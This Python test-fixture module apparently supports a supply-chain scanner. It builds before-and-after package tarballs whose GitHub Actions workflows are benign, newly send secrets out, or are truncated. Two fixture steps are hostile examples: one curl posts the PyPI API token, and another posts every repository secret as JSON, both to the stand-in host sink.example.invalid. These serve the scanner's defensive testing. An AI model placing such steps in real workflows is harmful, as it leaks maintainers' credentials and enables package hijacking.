"""Workflows that begin to send secrets to an address, that did before, that publish as all do, and one cut short."""

from __future__ import annotations

from pathlib import Path

from onionskin.lookalike.packages import build_sdist

HEAD = b"name: test\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
SENDS = b"      - name: Security\n        run: |\n          curl -s -X POST \\\n            -d 'p=${{ secrets.PYPI_API_TOKEN }}' https://sink.example.invalid/\n"
ALL = b'      - run: echo "$DATA" | curl -sd @- https://sink.example.invalid/f\n        env:\n          DATA: ${{ toJSON(secrets) }}\n'
USUAL = b'      - run: |\n          curl -H "Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}" https://api.github.com/user\n          curl -O https://tools.example.invalid/tool\n      - run: twine upload dist/*\n        env:\n          TWINE_PASSWORD: ${{ secrets.PYPI_API_TOKEN }}\n'


def _pair(folder: Path, before: bytes, after: bytes) -> tuple[Path, Path]:
    paths = []
    for version, said in (("1.0.0", before), ("1.1.0", after)):
        files = {".github/workflows/test.yml": HEAD + said, "inert.py": b"side = 2\n"}
        paths.append(folder / f"inert-{version}.tar.gz")
        paths[-1].write_bytes(build_sdist("inert", version, files))
    return paths[0], paths[1]


def good_what_all_do(folder: Path) -> tuple[Path, Path]:
    return _pair(folder, b"", USUAL)


def good_it_did_before(folder: Path) -> tuple[Path, Path]:
    return _pair(folder, SENDS, SENDS + USUAL)


def bad_one_secret(folder: Path) -> tuple[Path, Path]:
    return _pair(folder, b"", SENDS)


def bad_all_of_them(folder: Path) -> tuple[Path, Path]:
    return _pair(folder, USUAL, USUAL + ALL)


def damaged(folder: Path) -> tuple[Path, Path]:
    old, new = bad_one_secret(folder)
    new.write_bytes(new.read_bytes()[:150])
    return old, new
